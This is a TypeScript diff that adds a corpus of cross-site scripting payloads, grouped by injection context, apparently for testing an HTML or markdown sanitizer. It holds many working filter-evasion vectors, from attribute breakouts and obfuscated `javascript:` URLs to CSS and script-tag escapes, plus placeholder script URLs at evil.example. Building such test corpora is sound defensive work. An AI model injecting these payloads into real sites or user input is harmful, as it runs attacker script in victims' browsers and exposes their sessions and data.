@@ -1,0 +1,300 @@
+import {
+  HTML_VECTORS,
+  LEGACY_HTML_VECTORS,
+  MUTATION_VECTORS,
+  REREAD_VECTORS,
+} from "./xss-html-vectors";
+
+/**
+ * A corpus of cross-site scripting, after OWASP's XSS filter evasion cheat sheet and PortSwigger's
+ * XSS cheat sheet, by the place that each vector is made for. One that runs calls `xss` with its own
+ * number, which a test puts into every frame.
+ */
+export type Context =
+  /** Between tags. */
+  | "html"
+  /** Between tags, read once without scripts, written out and read again. */
+  | "reread"
+  /** In a quoted attribute. */
+  | "double-quoted"
+  | "single-quoted"
+  | "unquoted"
+  /** As the whole of a link's address, which is then followed. */
+  | "url"
+  /** In a `<style>`, a `<textarea>`, a comment. */
+  | "css"
+  | "rcdata"
+  | "comment"
+  /** In a text of a JSON in a `<script>`; in a quoted text of a script. */
+  | "json"
+  | "script"
+  | "markdown";
+
+export interface Vector {
+  id: number;
+  context: Context;
+  text: string;
+  /** Whether Chromium runs it where nothing is done against it; others were made for old browsers. */
+  runs: boolean;
+}
+
+/**
+ * The text of a vector with its number in it: `{js}` is the call, `{own}` the same from a frame that
+ * may not ask its parents, `{file}` a script elsewhere and `{page}` a page elsewhere that call too.
+ */
+function numbered(text: string, id: number): string {
+  const js = `top.xss(${id})`;
+  const own = `xss(${id})`;
+  const url = `javascript:${js}`;
+  const entities = (form: (code: number) => string) =>
+    [...url].map((letter) => form(letter.charCodeAt(0))).join("");
+  const parts: Record<string, string> = {
+    js,
+    own,
+    id: String(id),
+    file: `https://evil.example/${id}.js`,
+    page: `https://evil.example/${id}.html`,
+    base: `https://evil.example/${id}/`,
+    decimal: entities((code) => `&#${code};`),
+    padded: entities((code) => `&#${String(code).padStart(7, "0")}`),
+    hex: entities((code) => `&#x${code.toString(16)};`),
+    percent: encodeURIComponent(js).replace(/[()]/g, (letter) => `%${hexOf(letter)}`),
+    codes: [...js].map((letter) => letter.charCodeAt(0)).join(","),
+    base64: Buffer.from(`<script>${own}</script>`).toString("base64"),
+    svg64: Buffer.from(
+      `<svg xmlns="http://www.w3.org/2000/svg"><script>${own}</script></svg>`,
+    ).toString("base64"),
+  };
+  return text.replace(/\{(\w+)\}/g, (whole, name: string) => parts[name] ?? whole);
+}
+
+const hexOf = (letter: string) => letter.charCodeAt(0).toString(16);
+
+const DOUBLE_QUOTED = [
+  `"><script>{js}</script>`,
+  `"><img src=x onerror={js}>`,
+  `"><svg onload={js}>`,
+  `" autofocus tabindex=1 onfocus="{js}`,
+  `" style="animation:x 1s" onanimationstart="{js}`,
+  `" oncontentvisibilityautostatechange="{js}" style="content-visibility:auto;display:block`,
+  `&quot;"><body onload={js}>`,
+  `\\"><img src=x onerror={js}>`,
+  `"/><iframe srcdoc='<script>{js}</script>'>`,
+  `">'><details open ontoggle={js}>`,
+  `"\n\n><video src=x onerror={js}></video>`,
+];
+
+const SINGLE_QUOTED = [
+  `'><script>{js}</script>`,
+  `' autofocus tabindex=1 onfocus='{js}`,
+  `'><img src=x onerror="{js}">`,
+  `'-->"><svg/onload={js}>`,
+];
+
+const UNQUOTED = [
+  `x autofocus tabindex=1 onfocus={js}`,
+  `x style=animation-name:x onanimationstart={js}`,
+  `><script>{js}</script>`,
+  `x\tautofocus\ttabindex=1\fonfocus={js}`,
+];
+
+const URLS = [
+  `javascript:{js}`,
+  `JaVaScRiPt:{js}`,
+  `  javascript:{js}`,
+  `java\tscript:{js}`,
+  `java\nscript:{js}`,
+  `java\r\nscript:{js}`,
+  `\u0001javascript:{js}`,
+  `\u001f\u0014 javascript:{js}`,
+  `javascript\t:{js}`,
+  `javascript\n:{js}`,
+  `jav&#x09;ascript:{js}`,
+  `jav&#x0A;ascript:{js}`,
+  `jav&Tab;ascript:{js}`,
+  `java&NewLine;script:{js}`,
+  `javascript&colon;{js}`,
+  `javascript&#58;{js}`,
+  `javascript&#x3a;{js}`,
+  `&#106;avascript:{js}`,
+  ` &#14;  javascript:{js}`,
+  `{decimal}`,
+  `{padded}`,
+  `{hex}`,
+  `javascript:{percent}`,
+  `javascript://example.example/%0a{js}`,
+  `javascript://%0d%0a{js}//https://example.example/`,
+  `javascript:/*https://example.example/*/{js}`,
+  `javascript:void({js})`,
+  `javascript:'x',{js}`,
+  `javascript:eval(String.fromCharCode({codes}))`,
+  `javascript:(()=>{{js}})()`,
+  `javascript:{js}//mailto:someone@example.example`,
+  `javascript:{js}//#https://example.example/`,
+  `javascript:{js}//?.png`,
+  `javascript&colon;top['x'+'ss'](&quot;{id}&quot;)`,
+];
+
+const LEGACY_URLS = [
+  `vbscript:msgbox({id})`,
+  `livescript:{js}`,
+  `mocha:{js}`,
+  `feed:javascript:{js}`,
+  `view-source:javascript:{js}`,
+  `jar:javascript:{js}`,
+  `data:text/html,<script>{own}</script>`,
+  `data:text/html;base64,{base64}`,
+  `data:image/svg+xml;base64,{svg64}`,
+  `data:text/javascript,{own}`,
+  `DATA:TEXT/HTML,<script>{own}</script>`,
+  `data:,<script>{own}</script>`,
+  `blob:javascript:{js}`,
+  `//javascript:{js}`,
+  `/\\javascript:{js}`,
+  `\u00a0javascript:{js}`,
+  `\u2028javascript:{js}`,
+  `\u0000javascript:{js}`,
+  `java\u0000script:{js}`,
+  `javascript%3A{js}`,
+  `jav\u0430script:{js}`,
+  `\uff4aavascript:{js}`,
+  `filesystem:javascript:{js}`,
+  `https:javascript:{js}`,
+  `//"onerror="{js}`,
+  `/"onerror="{js}"x="`,
+  `https://x.example/" onerror="{js}`,
+  `https://x.example/'><script>{js}</script>`,
+];
+
+const CSS = [
+  `</style><script>{js}</script>`,
+  `</STYLE><img src=x onerror={js}>`,
+  `</style ><svg onload={js}>`,
+  `</style\n><script>{js}</script>`,
+  `</style/><img src=x onerror={js}>`,
+  `</style foo="><script>">{js}</style><script>{js}</script>`,
+  `/* </style><script>{js}</script> */`,
+  `a::after{content:"</style><script>{js}</script>"}`,
+  `a{background:url("</style><img src=x onerror={js}>")}`,
+  `<!-- </style><script>{js}</script> -->`,
+  `@charset "</style><svg onload={js}>";`,
+  `<</style><script>{js}</script>`,
+  `</style\f><script>{js}</script>`,
+];
+
+const LEGACY_CSS = [
+  `body{background:url(javascript:{js})}`,
+  `body{width:expression({js})}`,
+  `body{behavior:url(#default#{js})}`,
+  `body{-moz-binding:url("javascript:{js}")}`,
+  `@import 'javascript:{js}';`,
+  `li{list-style-image:url("javascript:{js}")}`,
+  `</st/**/yle><script>{js}</script>`,
+  `\\3c/style><script>{js}</script>`,
+  `</\u017ftyle><script>{js}</script>`,
+];
+
+const RCDATA = [
+  `</textarea><script>{js}</script>`,
+  `</TextArea ><img src=x onerror={js}>`,
+  `</textarea/><svg onload={js}>`,
+  `<!--</textarea><img src=x onerror={js}>-->`,
+];
+
+const COMMENT = [
+  `--><script>{js}</script>`,
+  `--!><img src=x onerror={js}>`,
+  `--\n--><svg onload={js}>`,
+];
+
+const JSON_IN_SCRIPT = [
+  `</script><script>{js}</script>`,
+  `</SCRIPT ><img src=x onerror={js}>`,
+  `</script/><svg onload={js}>`,
+  `</script x="><script>">{js}</script><script>{js}</script>`,
+  `<!--</script><script>{js}</script>`,
+  `<!--<script></script></script><img src=x onerror={js}>`,
+  `<!--<script>--></script><script>{js}</script>`,
+  `\u2028</script><script>{js}</script>`,
+  `]]></script><script>{js}</script>`,
+];
+
+const SCRIPT = [
+  `';{js};'`,
+  `'-{js}-'`,
+  `'+{js}+'`,
+  `';{js}\u2028'`,
+  `</script><svg onload={js}>`,
+  `'\n{js}\n'`,
+  `\${{js}}'-{js}//`,
+  `';import('data:text/javascript,{js}')//`,
+];
+
+const MARKDOWN = [
+  `[a](javascript:{js})`,
+  `[a]( javascript:{js})`,
+  `[a](JaVaScRiPt:{js} "title")`,
+  `[a](javascript&colon;{js})`,
+  `[a](javascript&#58;{js})`,
+  `[a](<javascript:{js}>)`,
+  `[a](&#x6A;avascript:{js})`,
+  `<javascript:{js}>`,
+  `<JAVASCRIPT:{js}>`,
+  `[^1]\n\n[^1]: javascript:{js}`,
+  `[a][1]\n\n[1]: javascript:{js}`,
+  `[a]\n\n[a]: <javascript:{js}> "title"`,
+  `![a](x" onerror="{js})<img src=x onerror={js}>`,
+  `[![a](x)](javascript:{js})`,
+  `# <img src=x onerror={js}>`,
+  `> <svg onload={js}>`,
+  `- <details open ontoggle={js}>x</details>`,
+  `<div>\n\n**a**\n\n<img src=x onerror={js}>\n</div>`,
+  `a <span onanimationstart={js} style="animation:x 1s">a</span>`,
+  `<script>\n{js}\n</script>`,
+  `<!-- a --><svg onload={js}>`,
+  `<a href="javascript:{js}">a</a>`,
+  `1. a\n   <iframe src="javascript:{js}"></iframe>`,
+  `*a <img src=x onerror="{js}">*`,
+  `<?php ?><img src=x onerror={js}>`,
+  `[a](javascript://example.example/%0a{js})`,
+];
+
+const LEGACY_MARKDOWN = [
+  "```html\n<script>{js}</script>\n```",
+  '```" onload="{js}\na\n```',
+  "`<img src=x onerror={js}>`",
+  `    <script>{js}</script>`,
+  `![a](javascript:{js})`,
+  `![a](x "title\\" onerror=\\"{js}")`,
+  `[a](x "\\" onmouseover=\\"{js}")`,
+  `[a](vbscript:{js})`,
+  `[a](data:text/html;base64,{base64})`,
+  `![a"onerror="{js}](x)`,
+  `<https://x.example/"onmouseover="{js}>`,
+  `[a](<java\tscript:{js}>)`,
+  `[a](\\javascript:{js})\n\n[b](j\\avascript:{js})`,
+];
+
+const CORPUS: [Context, runs: boolean, string[]][] = [
+  ["html", true, HTML_VECTORS],
+  ["html", true, MUTATION_VECTORS],
+  ["reread", true, REREAD_VECTORS],
+  ["html", false, LEGACY_HTML_VECTORS],
+  ["double-quoted", true, DOUBLE_QUOTED],
+  ["single-quoted", true, SINGLE_QUOTED],
+  ["unquoted", true, UNQUOTED],
+  ["url", true, URLS],
+  ["url", false, LEGACY_URLS],
+  ["css", true, CSS],
+  ["css", false, LEGACY_CSS],
+  ["rcdata", true, RCDATA],
+  ["comment", true, COMMENT],
+  ["json", true, JSON_IN_SCRIPT],
+  ["script", true, SCRIPT],
+  ["markdown", true, MARKDOWN],
+  ["markdown", false, LEGACY_MARKDOWN],
+];
+
+export const VECTORS: Vector[] = CORPUS.flatMap(([context, runs, texts]) =>
+  texts.map((text) => ({ context, runs, text })),
+).map(({ text, ...vector }, id) => ({ id, ...vector, text: numbered(text, id) }));
